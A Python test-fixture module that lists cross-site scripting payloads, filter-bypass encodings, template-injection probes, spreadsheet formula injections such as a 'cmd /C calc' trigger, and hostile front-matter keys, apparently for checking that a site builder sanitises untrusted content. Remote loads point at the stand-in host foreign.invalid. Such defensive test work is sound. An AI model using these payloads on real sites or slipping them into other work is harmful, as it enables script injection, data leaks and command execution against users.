"""What someone could write into a case to harm readers: the set that the site must withstand.

``{n}`` is the payload's number: one that runs calls ``pwned(n)``, one that fetches asks the host
``foreign.invalid``.
"""

from __future__ import annotations

HOST = "foreign.invalid"

BODY = (
    # scripts
    "<script>pwned({n})</script>",
    "<ScRiPt>pwned({n})</sCrIpT >",
    "<script src=https://foreign.invalid/{n}.js></script>",
    '<script type="module">pwned({n})</script>',
    "<scr<script>ipt>pwned({n})</scr</script>ipt>",
    "<<script>pwned({n})//<</script>",
    '<noscript><p title="</noscript><script>pwned({n})</script>">',
    "<template><script>pwned({n})</script></template>",
    "<textarea><script>pwned({n})</script></textarea>",
    "<title><script>pwned({n})</script></title>",
    # event handlers
    "<img src=x onerror=pwned({n})>",
    "<img src=x onerror=\"&#112;wned({n})\">",
    "<img/src=x/onerror=pwned({n})>",
    '<b onmouseover="pwned({n})">b</b>',
    '<p onclick=pwned({n})>p</p>',
    '<details open ontoggle="pwned({n})"><summary>s</summary></details>',
    '<div tabindex=0 autofocus onfocus="pwned({n})">d</div>',
    "<body onload=pwned({n})>",
    "<video><source onerror=pwned({n})></video>",
    "<audio src=x onerror=pwned({n})>",
    "<marquee onstart=pwned({n})>m</marquee>",
    '<input autofocus onfocus="pwned({n})">',
    '<style onload="pwned({n})"></style>',
    # SVG and MathML
    "<svg onload=pwned({n})></svg>",
    "<svg><script>pwned({n})</script></svg>",
    '<svg><animate onbegin="pwned({n})" attributeName="x"/></svg>',
    '<svg><a xlink:href="javascript:pwned({n})"><text y="9">t</text></a></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>parent.pwned({n})</script>"></iframe></foreignObject></svg>',
    '<svg><image href="https://foreign.invalid/{n}.png"/></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=pwned({n})></style></mglyph></table></mtext></math>',
    # frames, objects, forms, documents
    '<iframe src="javascript:parent.pwned({n})"></iframe>',
    '<iframe src="https://foreign.invalid/{n}"></iframe>',
    '<object data="https://foreign.invalid/{n}"></object>',
    '<embed src="https://foreign.invalid/{n}">',
    '<form action="https://foreign.invalid/{n}"><button formaction="javascript:pwned({n})">b</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://foreign.invalid/{n}">',
    '<base href="https://foreign.invalid/{n}/">',
    '<link rel="stylesheet" href="https://foreign.invalid/{n}.css">',
    # CSS
    '<p style="background:url(https://foreign.invalid/{n})">p</p>',
    "<style>@import 'https://foreign.invalid/{n}.css';</style>",
    '<div style="position:fixed;inset:0;z-index:9999">cover</div>',
    # addresses
    "[a](javascript:pwned({n}))",
    "[a](JaVaScRiPt:pwned({n}))",
    "[a](java&#x09;script:pwned({n}))",
    "[a](&#106;avascript:pwned({n}))",
    "[a](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQoMSk8L3NjcmlwdD4=)",
    "[a](vbscript:pwned({n}))",
    "<javascript:pwned({n})>",
    "[a][r{n}]\n\n[r{n}]: javascript:pwned({n})",
    "![i](https://foreign.invalid/{n}.png)",
    "![i](//foreign.invalid/{n}.png)",
    '<img alt="i" src="\\\\foreign.invalid/{n}.png">',
    '<img alt="i" src="a.png" srcset="https://foreign.invalid/{n}.png 2x">',
    '<img alt="i" title="src=a.md" src="htt\nps://foreign.invalid/{n}.png">',
    '<img alt="i" title="src=a.md" src="htt&#9;ps://foreign.invalid/{n}.png">',
    '<img alt="i" title="src=a.md" src="&#1;https://foreign.invalid/{n}.png">',
    '<img alt="i" src="https:foreign.invalid/{n}.png">',
    '<img alt="i" src="/\\foreign.invalid/{n}.png">',
    '<img alt="i" src="\\&#10;/foreign.invalid/{n}.png">',
    '<img alt="i" src="&NewLine;//foreign.invalid/{n}.png">',
    "![i](ht&Tab;tps://foreign.invalid/{n}.png)",
    "![i][s{n}]\n\n[s{n}]: <ht&#116;ps://foreign.invalid/{n}.png>",
    '<a title="href=a.md" href="https://foreign.invalid/{n}" class="md-button hero">a</a>',
    '<a href="#" ping="https://foreign.invalid/{n}">a</a>',
    # Markdown extensions
    "text {{: onclick=\"pwned({n})\" }}",
    "![i](a.png){{: onerror=\"pwned({n})\" }}",
    "[a](#x){{: href=\"javascript:pwned({n})\" }}",
)  # fmt: skip
"""For the body; each is an error of the check."""

SHOWN = (
    "{{{{ config }}}}",
    "{{% include 'main.html' %}}",
    "{{{{ ''.__class__.__mro__ }}}}",
    "`<script>pwned({n})</script>`",
    "</div></article></main>",
    "=HYPERLINK(\"https://foreign.invalid/{n}\")",
    "<!-- <script>pwned({n})</script> -->",
    "*[a]: b",
)  # fmt: skip
"""For the body; shown as text, or dropped."""

FIELDS = (
    "<script>pwned({n})</script>",
    "<img src=x onerror=pwned({n})>",
    "\" autofocus onfocus=pwned({n}) x=\"",
    "'><svg onload=pwned({n})>",
    "</script><script>pwned({n})</script>",
    "</style><style>@import 'https://foreign.invalid/{n}.css'</style>",
    "{{{{ 7 * 7 }}}}{{% raw %}}",
    "javascript:pwned({n})",
    "=HYPERLINK(\"https://foreign.invalid/{n}\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\u2028pwned({n})//",
    "]]><script>pwned({n})</script>",
    "&lt;script&gt;pwned({n})&lt;/script&gt;",
)  # fmt: skip
"""For fields of the front matter, which are shown, searched, listed and exported."""

KEYS = (
    "template: ../../secret.html",
    "hide: [navigation]",
    "tags: [a]",
    "search: {exclude: true}",
    "__class__: a",
    "extends: main.html",
    "redirect_to: https://foreign.invalid/",
    "head: <script>pwned(1)</script>",
)
"""Keys of site generators: refused."""


def numbered(payloads: tuple[str, ...], start: int) -> list[str]:
    """Return payloads with their numbers filled in."""
    return [payload.format(n=start + index) for index, payload in enumerate(payloads)]
